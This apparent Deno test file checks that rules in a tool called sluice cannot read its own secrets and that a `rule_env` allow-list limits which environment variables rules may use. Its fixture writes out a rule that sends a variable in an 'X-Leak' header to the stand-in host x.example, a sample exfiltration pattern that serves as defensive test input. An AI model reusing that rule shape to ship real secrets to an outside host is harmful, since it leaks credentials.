/** Rules read only the environment they are allowed: never sluice's own secrets; `rule_env` narrows the rest. */
import { assertEquals, assertIncludes } from "./support/assert.ts";
import { runSluice } from "./support/cli.ts";
import { withTree } from "./support/tmp.ts";

const rule = (v: string) =>
  `on: user.banned\ndo:\n  - http: { url: "https://x.example/a", headers: { X-Leak: "\${${v}}" } }\n`;

Deno.test("a rule may not read STREAM_API_SECRET or the admin token; rule_env narrows what it may", async () => {
  await withTree({
    "rules/a.yaml": rule("STREAM_API_SECRET"),
    "rules/b.yaml": rule("SLUICE_ADMIN_TOKEN"),
  }, async (dir) => {
    const r = await runSluice(["validate"], {
      cwd: dir,
      env: { STREAM_API_SECRET: "s3cret", SLUICE_ADMIN_TOKEN: "admin-token-0123456789" },
    });
    assertEquals(r.code, 1);
    assertIncludes(r.stdout, "rules/a.yaml:3:61: ");
    assertIncludes(r.stdout, "${STREAM_API_SECRET} is one of sluice's own secrets");
    assertIncludes(r.stdout, "${SLUICE_ADMIN_TOKEN} is one of sluice's own secrets");
    assertEquals(r.stdout.includes("s3cret"), false);
  });
  await withTree({
    "rules/c.yaml": rule("DATABASE_PASSWORD"),
    "rules/d.yaml": rule("PARTNER_TOKEN"),
    "sluice.yaml": 'rule_env: ["PARTNER_*", "SLACK_*"]\n',
  }, async (dir) => {
    const r = await runSluice(["run", "--strict"], {
      cwd: dir,
      env: {
        DATABASE_PASSWORD: "pw",
        PARTNER_TOKEN: "t",
        SLUICE_LISTEN: "127.0.0.1:0",
        SLUICE_STORE: "sqlite:./data/s.db",
      },
    });
    assertEquals(r.code, 1, r.stderr);
    assertIncludes(
      r.stderr,
      "${DATABASE_PASSWORD} is not allowed by rule_env (PARTNER_*, SLACK_*)",
    );
    assertEquals(r.stderr.includes("PARTNER_TOKEN"), false, "an allowed variable is fine");
  });
});
